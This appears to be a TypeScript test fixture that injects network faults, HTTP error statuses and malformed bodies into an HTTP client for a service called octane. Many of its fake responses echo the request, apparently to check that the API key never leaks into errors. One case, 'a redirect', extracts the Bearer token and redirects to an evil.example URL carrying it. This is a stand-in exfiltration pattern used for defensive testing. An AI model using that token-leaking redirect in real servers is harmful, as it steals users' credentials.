import { goodAnswer, headText, httpText, json } from "./answers.js";
import { address, type CallName, calls, type Given, isWait } from "./calls.js";
import { closedPort, type RawRequest, type Respond, startRawOctane } from "./rawOctane.js";

/** What the error of a call must be, beside its class. */
export type Expected = {
  readonly kind: "network" | "http" | "deserialise" | "malformed_sse_frame";
  readonly status?: number;
  /** Set where the call ends by the clock. */
  readonly byTheClock?: true;
};

/** One thing that goes wrong on the way, and how a call that asks once and one that waits must report it. */
export type Fault = {
  readonly name: string;
  /** Absent where nobody listens. */
  readonly respond?: Respond;
  readonly once: Expected;
  readonly waiting: Expected;
};

const network: Expected = { kind: "network" };
const deserialise: Expected = { kind: "deserialise" };
/** What may pass by itself is asked for again until the time is up. */
const untilTimeIsUp: Expected = { kind: "network", byTheClock: true };
const cut = { once: network, waiting: untilTimeIsUp };
const late = { once: untilTimeIsUp, waiting: untilTimeIsUp };
const unreadable = { once: deserialise, waiting: deserialise };

/** All that an answer could repeat of a request, which is where a log would get the key from. */
const echoOf = ({ head, body }: RawRequest): string => `${head}\r\n${body}`;

/** The good answer's bytes, with what was sent in a field that nobody asked for. */
const goodBody = (request: RawRequest): string =>
  JSON.stringify({ ...goodAnswer(request), echo: echoOf(request) });
const wholeHead = (request: RawRequest): string =>
  headText(200, { ...json, "content-length": String(goodBody(request).length) });
const half = (request: RawRequest): string => goodBody(request).slice(0, goodBody(request).length / 2);

/** What happens to the bytes. */
const toxics: readonly Fault[] = [
  { name: "nobody listens", ...cut },
  { name: "reset before the answer", respond: (socket) => socket.resetAndDestroy(), ...cut },
  { name: "half-close before the answer", respond: (socket) => socket.end(), ...cut },
  {
    name: "truncated within the body",
    respond: (socket, request) => socket.end(wholeHead(request) + half(request)),
    ...cut,
  },
  {
    name: "bytes that are no HTTP",
    respond: (socket, request) => socket.end(`\u0001${echoOf(request)}\r\n\r\n`),
    ...cut,
  },
  { name: "headers that never come", respond: () => {}, ...late },
  {
    name: "a body that stalls",
    respond: (socket, request) => socket.write(wholeHead(request) + half(request)),
    ...late,
  },
  { name: "a body in slow drops", respond: drip, ...late },
];

/** A byte now and then: never silent, and never done. */
function drip(socket: Parameters<Respond>[0], request: RawRequest): void {
  socket.write(wholeHead(request));
  const bytes = goodBody(request);
  let at = 0;
  const timer = setInterval(() => socket.write(bytes[at++ % bytes.length] ?? ""), 20);
  socket.once("close", () => clearInterval(timer));
}

/** A refusal in octane's form, which repeats the request in each of its fields. */
function refusal(code: number, word: string, retryable = false): Fault {
  const http: Expected = { kind: "http", status: code };
  return {
    name: `${code} ${word}`,
    respond: (socket, request) => {
      const error = { code: word, message: echoOf(request) };
      socket.write(httpText(code, json, JSON.stringify({ error, request_id: echoOf(request) })));
    },
    once: http,
    waiting: retryable ? untilTimeIsUp : http,
  };
}

/** A page by something that stands before octane, which shows the request to whoever debugs it. */
const page =
  (code: number): Respond =>
  (socket, request) =>
    socket.write(httpText(code, { "content-type": "text/html" }, `<pre>${echoOf(request)}</pre>`));

const statuses: readonly Fault[] = [
  refusal(400, "bad_request"),
  refusal(401, "unauthorized"),
  refusal(403, "policy_denied"),
  refusal(404, "not_found"),
  refusal(408, "user_timeout"),
  refusal(413, "body_too_large"),
  refusal(429, "rate_limited", true),
  refusal(500, "internal_error", true),
  { ...refusal(502, "bad_gateway", true), respond: page(502) },
  refusal(503, "appliance_offline", true),
  { ...refusal(504, "gateway_timeout", true), respond: page(504) },
];

const contents: readonly Fault[] = [
  {
    name: "a redirect",
    respond: (socket, { head }) => {
      const key = /^authorization: Bearer (.*)$/im.exec(head)?.[1];
      socket.write(httpText(307, { location: `https://evil.example/${key}` }));
    },
    once: network,
    waiting: network,
  },
  {
    name: "JSON that breaks off",
    respond: (socket, request) => socket.write(httpText(200, json, half(request))),
    ...unreadable,
  },
  {
    name: "an object without its fields",
    respond: (socket, request) =>
      socket.write(httpText(200, json, JSON.stringify({ address, echo: echoOf(request) }))),
    ...unreadable,
  },
  { name: "a page instead of JSON", respond: page(200), ...unreadable },
  {
    name: "204 without a body",
    respond: (socket) => socket.write(headText(204, {})),
    once: deserialise,
    // "Not yet, ask again."
    waiting: untilTimeIsUp,
  },
];

/** 8 toxics of the connection and 16 answers. */
export const faults: readonly Fault[] = [...toxics, ...statuses, ...contents];

/** Long enough on a machine that does much else, for an answer that comes at once. */
const patientMs = 15_000;
const hastyMs = 250;

/** Has one call meet one fault, and gives its error; `undefined` where it has none. */
export async function meet(name: CallName, fault: Fault, given: Partial<Given> = {}): Promise<unknown> {
  const timeoutMs = expectedOf(name, fault).byTheClock ? hastyMs : patientMs;
  const server = fault.respond === undefined ? undefined : await startRawOctane(fault.respond);
  const octaneUrl = server?.url ?? `http://127.0.0.1:${await closedPort()}`;
  try {
    await calls[name]({ octaneUrl, timeoutMs, ...given });
    return undefined;
  } catch (error) {
    return error;
  } finally {
    await server?.close();
  }
}

export const expectedOf = (name: CallName, fault: Fault): Expected =>
  isWait(name) ? fault.waiting : fault.once;
